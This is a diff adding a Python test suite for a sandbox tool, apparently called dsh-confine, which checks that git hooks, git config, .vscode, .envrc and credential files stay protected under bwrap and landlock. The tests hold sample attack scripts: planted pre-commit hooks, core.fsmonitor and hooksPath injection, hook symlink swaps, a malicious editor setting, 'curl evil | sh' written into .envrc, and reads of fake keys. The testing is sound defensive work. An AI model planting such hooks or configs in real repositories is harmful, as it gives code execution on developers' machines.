@@ -1,0 +1,521 @@
+#!/usr/bin/env python3
+"""Issue 18, carve-outs: protected paths inside the workspace-write roots.
+
+Every attack runs under bwrap (refused: the file is checked from outside, unchanged) and under
+landlock (which cannot carve a read-only hole in a writable root: the record must say so, each
+protected path not enforced and the gap protected-paths, and the write must indeed land, so the
+report is true). The git workflow matrix runs under both runners. No host leftovers: the
+repository and the fake home hold exactly the same names after a run, a SIGKILLed one included.
+"""
+import os
+import signal
+import subprocess
+import time
+
+from harness import DSH, STD_PATH, dsh, main, need_runner
+
+RUNNERS = ("bwrap", "landlock")
+
+LANDLOCK_TEXT = ("landlock cannot make a path inside a writable root read-only (its rights are inherited down "
+                 "the tree); use --runner bwrap (or auto where bwrap works)")
+ABSENT_TEXT = ("absent when the run started: nothing is mounted for it (no placeholder is left on the host); its "
+               "creation is reported by the integrity check with --supervise")
+SUBMODULE_TEXT = ("a submodule's config is rewritten by every git submodule update (core.worktree): not bound, only "
+                  "checked by the integrity check with --supervise")
+OUTSIDE_TEXT = "outside the writable roots: read-only already"
+SYMLINK_TEXT = ("dsh-confine: the protected path {path} cannot be kept read-only: {link} is a symlink inside a "
+                "writable root (an earlier run could have planted it); remove the link, or --unprotect {path}\n")
+CHANGED_TEXT = ("1 protected path changed during the run (see the result record's violations); check them before "
+                "the next git or editor run\n")
+
+GIT_ENV = {"GIT_AUTHOR_NAME": "t", "GIT_AUTHOR_EMAIL": "t@example.invalid", "GIT_COMMITTER_NAME": "t",
+           "GIT_COMMITTER_EMAIL": "t@example.invalid", "GIT_CONFIG_NOSYSTEM": "1"}
+
+
+def git(s, cwd, *args):
+    e = s.env()
+    e.update(GIT_ENV)
+    e["GIT_CONFIG_GLOBAL"] = os.devnull
+    r = subprocess.run(["git", "-c", "protocol.file.allow=always", "-c", "init.defaultBranch=main"] + list(args),
+                       cwd=cwd, env=e, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    assert r.returncode == 0, (args, r.stderr)
+    return r.stdout.decode()
+
+
+def make_repo(s, path):
+    os.makedirs(path, exist_ok=True)
+    git(s, path, "init", "-q", ".")
+    with open(os.path.join(path, "a.txt"), "w") as f:
+        f.write("one\n")
+    git(s, path, "add", "a.txt")
+    git(s, path, "commit", "-q", "-m", "one")
+    os.makedirs(os.path.join(path, ".git", "hooks"), exist_ok=True)
+    os.makedirs(os.path.join(path, ".vscode"), exist_ok=True)
+    with open(os.path.join(path, ".vscode", "settings.json"), "w") as f:
+        f.write("{}\n")
+
+
+def run(s, runner, root, script, extra=(), env=None, **kw):
+    e = dict(GIT_ENV)
+    e["GIT_CONFIG_GLOBAL"] = os.devnull
+    if env:
+        e.update(env)
+    return dsh(["--mode", "workspace-write", "--root", root, "--runner", runner] + list(extra) +
+               ["--", "sh", "-c", script], s, cwd=root, env=e, **kw)
+
+
+def listing(*tops):
+    """Every name under `tops` with its type: what a leftover would change."""
+    out = set()
+    for top in tops:
+        for d, dirs, files in os.walk(top):
+            for n in dirs + files:
+                p = os.path.join(d, n)
+                kind = "l" if os.path.islink(p) else "d" if os.path.isdir(p) else "f"
+                out.add((os.path.relpath(p, top), kind))
+    return out
+
+
+def read(p):
+    with open(p, "rb") as f:
+        return f.read()
+
+
+def entries(r):
+    return {e["path"]: e for e in r.rec("confinement")["protectedPaths"]}
+
+
+def gap_effects(r):
+    return [g["effect"] for g in r.rec("confinement")["gaps"]]
+
+
+def check_reported(r, runner, want_exist):
+    """The record's protectedPaths: bwrap enforces what exists; landlock enforces nothing and says so."""
+    es = entries(r)
+    for p in want_exist:
+        assert p in es and es[p]["exists"], (p, es.get(p))
+        if runner == "bwrap":
+            assert es[p]["enforced"] in ("read-only-bind", "mount-point") and es[p]["whyNot"] is None, es[p]
+        else:
+            assert es[p]["enforced"] is None and es[p]["whyNot"] == LANDLOCK_TEXT, es[p]
+    for p, e in es.items():
+        if not e["exists"] and runner == "bwrap" and e["whyNot"] != OUTSIDE_TEXT:
+            assert e["whyNot"] == ABSENT_TEXT, e
+    if runner == "landlock":
+        assert r.rec("confinement")["enforcement"] == "partial", r
+        assert "protected-paths" in gap_effects(r), r
+    else:
+        assert "protected-paths" not in gap_effects(r), r
+
+
+ATTACKS = {
+    # name: (script, check(s, ws) -> True when the attack's effect is on the host)
+    "pre-commit-hook": ("printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
+                        lambda ws: os.path.exists(os.path.join(ws, ".git/hooks/pre-commit"))),
+    "git-config-fsmonitor": ("git config core.fsmonitor 'touch /tmp/pwned'; echo '[core]' >> .git/config",
+                             lambda ws: b"fsmonitor" in read(os.path.join(ws, ".git/config")) or
+                             read(os.path.join(ws, ".git/config")).endswith(b"[core]\n")),
+    "git-config-hookspath": ("git config core.hooksPath .evil",
+                             lambda ws: b"hooksPath" in read(os.path.join(ws, ".git/config"))),
+    "hooks-symlink": ("mkdir -p evil && rm -rf .git/hooks; ln -s ../evil .git/hooks",
+                      lambda ws: os.path.islink(os.path.join(ws, ".git/hooks"))),
+    "hooks-rename": ("mv .git/hooks .git/hooks.old; mkdir .git/hooks",
+                     lambda ws: os.path.exists(os.path.join(ws, ".git/hooks.old"))),
+    "dotgit-rename": ("mv .git .git.old && mkdir -p .git/hooks && cp -r .git.old/. .git/ 2>/dev/null; "
+                      "echo x > .git/hooks/pre-commit",
+                      lambda ws: os.path.exists(os.path.join(ws, ".git.old"))),
+    "vscode-settings": ("echo '{\"terminal.integrated.shell.linux\": \"/tmp/x\"}' > .vscode/settings.json",
+                        lambda ws: read(os.path.join(ws, ".vscode/settings.json")) != b"{}\n"),
+    "vscode-replace": ("rm -rf .vscode; mkdir .vscode; echo evil > .vscode/tasks.json",
+                       lambda ws: os.path.exists(os.path.join(ws, ".vscode/tasks.json"))),
+}
+
+
+def attack(s, runner, name):
+    need_runner(runner)
+    ws = s.ws
+    make_repo(s, ws)
+    script, landed = ATTACKS[name]
+    before = (read(os.path.join(ws, ".git/config")), read(os.path.join(ws, ".vscode/settings.json")))
+    assert not landed(ws)
+    r = run(s, runner, ws, script)
+    assert r.rec("confinement")["runner"] == runner, r
+    check_reported(r, runner, [ws + "/.git/hooks", ws + "/.git/config", ws + "/.vscode"])
+    if runner == "bwrap":
+        assert not landed(ws), (name, r)
+        assert (read(os.path.join(ws, ".git/config")), read(os.path.join(ws, ".vscode/settings.json"))) == before
+        assert os.path.isdir(os.path.join(ws, ".git/hooks")) and not os.path.islink(os.path.join(ws, ".git/hooks"))
+    else:
+        # Not enforced, as reported: the effect is on the host.
+        assert landed(ws), (name, r)
+
+
+for _runner in RUNNERS:
+    for _name in ATTACKS:
+        def _t(s, runner=_runner, name=_name):
+            attack(s, runner, name)
+        globals()["test_attack_%s__%s" % (_name.replace("-", "_"), _runner)] = _t
+
+
+def absent_created(s, runner):
+    """A missing protected file: no placeholder before or after; creating it is reported (supervise)."""
+    need_runner(runner)
+    ws = s.ws
+    make_repo(s, ws)
+    envrc = os.path.join(ws, ".envrc")
+    names = listing(ws)
+    r = run(s, runner, ws, "test -e .envrc && echo placeholder; true")
+    assert r.rc == 0 and "placeholder" not in r.out, r
+    assert listing(ws) == names
+    assert entries(r)[envrc]["exists"] is False, r
+    r = run(s, runner, ws, "echo 'curl evil | sh' > .envrc", extra=["--supervise"])
+    res = r.rec("result")
+    assert res["violations"] == [{"type": "protected-path-changed", "path": envrc}], r
+    assert r.err.endswith(CHANGED_TEXT), r
+    # Nothing changed, nothing said.
+    os.unlink(envrc)
+    r = run(s, runner, ws, "git status >/dev/null; echo x > a.txt", extra=["--supervise"])
+    assert r.rec("result")["violations"] == [] and CHANGED_TEXT not in r.err, r
+
+
+def test_absent_created__bwrap(s):
+    absent_created(s, "bwrap")
+
+
+def test_absent_created__landlock(s):
+    absent_created(s, "landlock")
+
+
+def test_landlock_hook_write_is_a_violation(s):
+    need_runner("landlock")
+    make_repo(s, s.ws)
+    r = run(s, "landlock", s.ws, "echo x > .git/hooks/post-checkout", extra=["--supervise"])
+    assert r.rec("result")["violations"] == [{"type": "protected-path-changed", "path": s.ws + "/.git/hooks"}], r
+
+
+def fake_home(s):
+    h = os.path.join(s.base, "home")
+    os.makedirs(os.path.join(h, ".ssh"))
+    for n, body in ((".bashrc", "# rc\n"), (".profile", "# profile\n"), (".gitconfig", "[user]\n"),
+                    (".ssh/authorized_keys", "ssh-ed25519 AAAA\n")):
+        with open(os.path.join(h, n), "w") as f:
+            f.write(body)
+    os.makedirs(os.path.join(h, ".local", "bin"))
+    # dsh-confine's own config in the fake home: under the root, kept read-only where the runner
+    # can (bwrap), refused where it cannot (landlock).
+    os.makedirs(os.path.join(h, ".config", "dsh-confine"))
+    with open(os.path.join(h, ".config", "dsh-confine", "config.json"), "w") as f:
+        f.write("{}\n")
+    # dsh-confine's own state must not lie under the root: kept in the scratch's real home.
+    cfg = os.path.join(s.home, "config.json")
+    with open(cfg, "w") as f:
+        f.write("{}\n")
+    env = {"HOME": h, "DSH_CONFINE_CONFIG": cfg, "XDG_CONFIG_HOME": os.path.join(s.home, ".config"),
+           "XDG_CACHE_HOME": os.path.join(s.home, ".cache"), "XDG_RUNTIME_DIR": None}
+    return h, env
+
+
+# A root that contains $HOME is refused today (dsh-confine's own config path, $HOME/.config/dsh-confine,
+# lies under it, existing or not: test_attack_state.py), so the home list is covered by the unit test
+# "carve-outs: the home list applies when a root contains $HOME".
+
+
+def test_home_not_in_root_gets_no_home_entries(s):
+    need_runner("bwrap")
+    h, env = fake_home(s)
+    r = run(s, "bwrap", s.ws, "true", env=env)
+    assert not [p for p in entries(r) if p.startswith(h)], r
+
+
+def test_symlink_planted_is_refused(s):
+    need_runner("bwrap")
+    make_repo(s, s.ws)
+    os.rename(os.path.join(s.ws, ".vscode"), os.path.join(s.outside, "vscode"))
+    os.symlink(os.path.join(s.outside, "vscode"), os.path.join(s.ws, ".vscode"))
+    r = run(s, "bwrap", s.ws, "echo ran")
+    assert r.rc == 125 and "ran" not in r.out, r
+    p = s.ws + "/.vscode"
+    assert r.err == SYMLINK_TEXT.format(path=p, link=p), r
+    # --unprotect is the way out, and is reported.
+    r = run(s, "bwrap", s.ws, "echo ran", extra=["--unprotect", ".vscode"])
+    assert r.rc == 0 and r.out == "ran\n", r
+    assert r.rec("confinement")["unprotected"] == [p] and p not in entries(r), r
+
+
+def test_protect_and_unprotect(s):
+    need_runner("bwrap")
+    make_repo(s, s.ws)
+    os.mkdir(os.path.join(s.ws, "keep"))
+    with open(os.path.join(s.ws, "keep", "f"), "w") as f:
+        f.write("v\n")
+    r = run(s, "bwrap", s.ws, "echo w > keep/f; echo w > .vscode/settings.json; true",
+            extra=["--protect", "keep", "--unprotect", s.ws + "/.vscode", "--protect", "/etc"])
+    assert r.rc == 0, r
+    assert read(os.path.join(s.ws, "keep", "f")) == b"v\n"
+    assert read(os.path.join(s.ws, ".vscode", "settings.json")) == b"w\n"
+    es = entries(r)
+    assert es[s.ws + "/keep"]["source"] == "flag" and es[s.ws + "/keep"]["enforced"] == "read-only-bind", es
+    assert es["/etc"]["whyNot"] == OUTSIDE_TEXT, es
+    # The config's keys do the same.
+    cfg = os.path.join(s.home, "c.json")
+    with open(cfg, "w") as f:
+        f.write('{"protect": ["%s/keep"], "unprotect": ["%s/.vscode"]}' % (s.ws, s.ws))
+    r = run(s, "bwrap", s.ws, "echo w2 > keep/f; echo w2 > .vscode/settings.json; true", extra=["--config", cfg])
+    assert read(os.path.join(s.ws, "keep", "f")) == b"v\n", r
+    assert read(os.path.join(s.ws, ".vscode", "settings.json")) == b"w2\n", r
+    assert entries(r)[s.ws + "/keep"]["source"] == "config", r
+
+
+def hooks_path(s, runner):
+    """A core.hooksPath inside the root (husky's .husky, a .githooks) is protected like .git/hooks."""
+    need_runner(runner)
+    make_repo(s, s.ws)
+    os.mkdir(os.path.join(s.ws, ".githooks"))
+    git(s, s.ws, "config", "core.hooksPath", ".githooks")
+    r = run(s, runner, s.ws, "echo 'echo pwned' > .githooks/pre-commit; chmod +x .githooks/pre-commit; true")
+    check_reported(r, runner, [s.ws + "/.githooks"])
+    assert os.path.exists(os.path.join(s.ws, ".githooks/pre-commit")) == (runner == "landlock"), r
+
+
+def test_hooks_path__bwrap(s):
+    hooks_path(s, "bwrap")
+
+
+def test_hooks_path__landlock(s):
+    hooks_path(s, "landlock")
+
+
+def test_no_descriptor_of_ours_reaches_the_command(s):
+    """The carve-outs' descriptors cross bwrap for its binds; the command holds none of them."""
+    need_runner("bwrap")
+    make_repo(s, s.ws)
+    for extra in ([], ["--supervise"]):
+        r = run(s, "bwrap", s.ws, "ls /proc/$$/fd", extra=extra)
+        assert r.rc == 0 and r.out.split() == ["0", "1", "2"], r
+        assert sum(1 for e in entries(r).values() if e["enforced"]) >= 3, r
+
+
+def test_auto_prefers_bwrap_when_protected_paths_exist(s):
+    need_runner("bwrap")
+    make_repo(s, s.ws)
+    r = dsh(["--mode", "workspace-write", "--root", s.ws, "--", "true"], s)
+    assert r.rec("confinement")["runner"] == "bwrap", r
+
+
+# The git workflow matrix.
+WORKFLOW = ("set -e; echo two >> a.txt; git add a.txt; git commit -q -m two; git branch b1; git checkout -q b1; "
+            "echo three >> a.txt; git commit -q -am three; git checkout -q main; echo dirty >> a.txt; "
+            "git stash -q; git stash pop -q; git checkout -q -- a.txt; git checkout -q b1; git rebase -q main; "
+            "git gc -q; git worktree add -q ../wt-in -b b2; git -C ../wt-in commit -q --allow-empty -m wt; "
+            "git log --oneline | wc -l")
+
+
+def matrix_plain(s, runner):
+    need_runner(runner)
+    repo = os.path.join(s.ws, "repo")
+    make_repo(s, repo)
+    r = run(s, runner, repo, WORKFLOW, extra=["--writable", s.ws])
+    assert r.rc == 0 and r.out.strip() == "3", r
+    assert git(s, repo, "log", "--oneline", "b2").count("\n") == 4
+
+
+def matrix_worktree(s, runner):
+    need_runner(runner)
+    repo = os.path.join(s.ws, "repo")
+    make_repo(s, repo)
+    wt = os.path.join(s.ws, "wt")
+    git(s, repo, "worktree", "add", "-q", wt, "-b", "wtb")
+    r = run(s, runner, wt, "set -e; echo w >> a.txt; git commit -q -am w; git branch wtc; git checkout -q wtc; "
+            "git stash list; git rebase -q wtb; git gc -q; echo ok", extra=["--writable", repo])
+    assert r.rc == 0 and r.out.endswith("ok\n"), r
+    es = entries(r)
+    # The pointer, the worktree's private gitdir and the common dir's hooks and config.
+    for p in (wt + "/.git", repo + "/.git/worktrees/wt/commondir", repo + "/.git/hooks", repo + "/.git/config"):
+        assert es[p]["exists"], (p, es)
+    if runner == "bwrap":
+        r = run(s, runner, wt, "echo 'gitdir: /tmp/evil' > .git; echo x > %s/.git/hooks/pre-commit; true" % repo,
+                extra=["--writable", repo])
+        assert read(os.path.join(wt, ".git")).startswith(b"gitdir: " + repo.encode()), r
+        assert not os.path.exists(os.path.join(repo, ".git/hooks/pre-commit"))
+
+
+def matrix_submodule(s, runner):
+    need_runner(runner)
+    sub = os.path.join(s.outside, "subsrc")
+    make_repo(s, sub)
+    repo = s.ws
+    make_repo(s, repo)
+    git(s, repo, "submodule", "add", "-q", "file://" + sub, "sub")
+    git(s, repo, "commit", "-q", "-m", "sub")
+    # As after a clone with --recurse-submodules: update has run once and set the submodule's
+    # core.worktree (git writes it on the first update, into a config that is protected here).
+    git(s, repo, "submodule", "update", "-q")
+    first = git(s, os.path.join(repo, "sub"), "rev-parse", "HEAD").strip()
+    with open(os.path.join(sub, "a.txt"), "a") as f:
+        f.write("two\n")
+    git(s, sub, "commit", "-q", "-am", "two")
+    git(s, os.path.join(repo, "sub"), "pull", "-q", "origin", "main")
+    git(s, repo, "commit", "-q", "-am", "sub two")
+    second = git(s, os.path.join(repo, "sub"), "rev-parse", "HEAD").strip()
+    git(s, os.path.join(repo, "sub"), "checkout", "-q", first)
+    r = run(s, runner, repo, "set -e; git -c protocol.file.allow=always submodule update -q; "
+            "git -C sub commit -q --allow-empty -m in-sub; git add sub; git commit -q -m bump; echo ok")
+    assert r.rc == 0 and r.out == "ok\n", r
+    assert git(s, os.path.join(repo, "sub"), "rev-parse", "HEAD~1").strip() == second
+    es = entries(r)
+    for p in (repo + "/sub/.git", repo + "/.git/modules/sub/hooks", repo + "/.git/modules/sub/config"):
+        assert es[p]["exists"], (p, es)
+    if runner == "bwrap":
+        assert es[repo + "/.git/modules/sub/hooks"]["enforced"] == "read-only-bind", es
+        assert es[repo + "/.git/modules/sub/config"]["whyNot"] == SUBMODULE_TEXT, es
+        assert "protected-paths" in gap_effects(r), r
+        r = run(s, runner, repo, "echo x > .git/modules/sub/hooks/pre-commit; echo 'gitdir: /tmp' > sub/.git; true")
+        assert not os.path.exists(os.path.join(repo, ".git/modules/sub/hooks/pre-commit")), r
+        assert read(os.path.join(repo, "sub/.git")) == b"gitdir: ../.git/modules/sub\n", r
+    # The submodule's config is only watched: a change is the integrity check's violation.
+    r = run(s, runner, repo, "git -C sub config core.fsmonitor 'touch /tmp/x'", extra=["--supervise"])
+    assert r.rec("result")["violations"] == [{"type": "protected-path-changed",
+                                              "path": repo + "/.git/modules/sub/config"}], r
+
+
+for _runner in RUNNERS:
+    for _f in (matrix_plain, matrix_worktree, matrix_submodule):
+        def _t(s, runner=_runner, f=_f):
+            f(s, runner)
+        globals()["test_git_%s__%s" % (_f.__name__, _runner)] = _t
+
+
+def leftovers(s, supervise):
+    need_runner("bwrap")
+    make_repo(s, s.ws)
+    h, _ = fake_home(s)  # a home-shaped tree, not $HOME: a root holding $HOME is refused
+    env = {}
+    names = listing(s.ws, h)
+    args = ["--mode", "workspace-write", "--root", s.ws, "--writable", h, "--runner", "bwrap"]
+    args += ["--supervise"] if supervise else []
+    r = dsh(args + ["--", "true"], s, env=env)
+    assert r.rc == 0, r
+    assert any(e["exists"] and e["enforced"] for e in entries(r).values()), r
+    assert listing(s.ws, h) == names
+    # SIGKILL of dsh-confine mid-run: the sandbox dies with it and leaves nothing behind.
+    marker = os.path.join(s.tmpdir, "started")
+    e = s.env()
+    e.update({k: v for k, v in env.items() if v is not None})
+    e.pop("XDG_RUNTIME_DIR", None)
+    p = subprocess.Popen([DSH] + args + ["--", "sh", "-c", "touch %s; exec sleep 30" % marker], cwd=s.ws, env=e,
+                         stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True)
+    deadline = time.time() + 20
+    while not os.path.exists(marker) and time.time() < deadline:
+        time.sleep(0.05)
+    assert os.path.exists(marker), "the command never started"
+    p.send_signal(signal.SIGKILL)
+    p.wait(timeout=10)
+    deadline = time.time() + 10
+    while time.time() < deadline:
+        out = subprocess.run(["pgrep", "-f", "sleep 30"], stdout=subprocess.PIPE).stdout
+        if not out:
+            break
+        time.sleep(0.1)
+    assert listing(s.ws, h) == names
+
+
+def test_no_leftovers__exec(s):
+    leftovers(s, False)
+
+
+def test_no_leftovers__supervise(s):
+    leftovers(s, True)
+
+
+HIDDEN_LANDLOCK_TEXT = ("landlock grants read on the whole file system and cannot take it back for one path; use "
+                        "--runner bwrap")
+
+
+def deny_read(s, runner, mode):
+    """--deny-read: a fake home's private key and cloud credentials cannot be read, in every mode."""
+    need_runner(runner)
+    h = os.path.join(s.base, "secrets-home")
+    os.makedirs(os.path.join(h, ".ssh"))
+    os.makedirs(os.path.join(h, ".aws"))
+    for n, body in ((".ssh/id_ed25519", "PRIVATE\n"), (".ssh/id_ed25519.pub", "PUBLIC\n"),
+                    (".aws/credentials", "AKIA\n")):
+        with open(os.path.join(h, n), "w") as f:
+            f.write(body)
+    names = listing(h)
+    r = dsh(["--mode", mode, "--root", s.ws, "--runner", runner, "--deny-read", h + "/.ssh/id_ed25519",
+             "--deny-read", h + "/.aws", "--", "sh", "-c",
+             "cat %s/.ssh/id_ed25519 %s/.ssh/id_ed25519.pub; cat %s/.aws/credentials; true" % (h, h, h)], s)
+    assert r.rc == 0, r
+    hidden = {e["path"]: e for e in r.rec("confinement")["hiddenPaths"]}
+    assert set(hidden) == {h + "/.ssh/id_ed25519", h + "/.aws"}, hidden
+    if runner == "bwrap":
+        assert r.out == "PUBLIC\n", r
+        assert hidden[h + "/.aws"]["enforced"] == "empty-tmpfs", hidden
+        assert hidden[h + "/.ssh/id_ed25519"]["enforced"] == "dev-null-bind", hidden
+    else:
+        assert r.out == "PRIVATE\nPUBLIC\nAKIA\n", r
+        assert all(e["whyNot"] == HIDDEN_LANDLOCK_TEXT for e in hidden.values()), hidden
+        assert "hidden-paths" in gap_effects(r) and r.rec("confinement")["enforcement"] == "partial", r
+    assert listing(h) == names
+
+
+for _runner in RUNNERS:
+    for _mode in ("read-only", "workspace-write"):
+        def _t(s, runner=_runner, mode=_mode):
+            deny_read(s, runner, mode)
+        globals()["test_deny_read__%s__%s" % (_runner, _mode.replace("-", "_"))] = _t
+
+
+CONNECT = ("import socket,sys\n"
+           "s=socket.socket(socket.AF_UNIX)\n"
+           "try:\n"
+           "    s.connect(sys.argv[1]); print('agent')\n"
+           "except OSError as e:\n"
+           "    print('no-agent')\n")
+
+
+def hide_secrets(s, runner):
+    """--hide-secrets in a HOME the test makes: private keys (also an IdentityFile elsewhere) and
+    credentials unreadable, public keys and known_hosts readable, the agent socket unreachable."""
+    import socket
+    need_runner(runner)
+    h = os.path.join(s.base, "shome")
+    for d in (".ssh", ".aws", "keys"):
+        os.makedirs(os.path.join(h, d))
+    files = {".ssh/id_ed25519": "PRIV\n", ".ssh/id_ed25519.pub": "PUB\n", ".ssh/known_hosts": "KH\n",
+             ".ssh/config": "Host x\n  IdentityFile ~/keys/work\n", "keys/work": "WORK\n", ".aws/credentials": "AK\n"}
+    for n, body in files.items():
+        with open(os.path.join(h, n), "w") as f:
+            f.write(body)
+    sock_path = os.path.join(s.base, "agent.sock")
+    srv = socket.socket(socket.AF_UNIX)
+    srv.bind(sock_path)
+    srv.listen(1)
+    try:
+        script = ("for f in .ssh/id_ed25519 .ssh/id_ed25519.pub .ssh/known_hosts keys/work .aws/credentials; do "
+                  "cat $HOME/$f 2>/dev/null || echo hidden; done; python3 -c \"$1\" \"$SSH_AUTH_SOCK\"")
+        r = dsh(["--mode", "read-only", "--runner", runner, "--hide-secrets", "--", "sh", "-c", script, "sh",
+                 CONNECT], s, env={"HOME": h, "SSH_AUTH_SOCK": sock_path})
+    finally:
+        srv.close()
+    hidden = {e["path"]: e for e in r.rec("confinement")["hiddenPaths"]}
+    for p in (h + "/.ssh/id_ed25519", h + "/keys/work", h + "/.aws/credentials", sock_path):
+        assert hidden[p]["exists"] and hidden[p]["source"] == "hide-secrets", (p, hidden)
+    assert h + "/.ssh/id_ed25519.pub" not in hidden and h + "/.ssh/known_hosts" not in hidden, hidden
+    if runner == "bwrap":
+        assert r.out == "hidden\nPUB\nKH\nhidden\nhidden\nno-agent\n", r
+    else:
+        assert r.out == "PRIV\nPUB\nKH\nWORK\nAK\nagent\n", r
+        assert "hidden-paths" in gap_effects(r), r
+
+
+def test_hide_secrets__bwrap(s):
+    hide_secrets(s, "bwrap")
+
+
+def test_hide_secrets__landlock(s):
+    hide_secrets(s, "landlock")
+
+
+if __name__ == "__main__":
+    main()
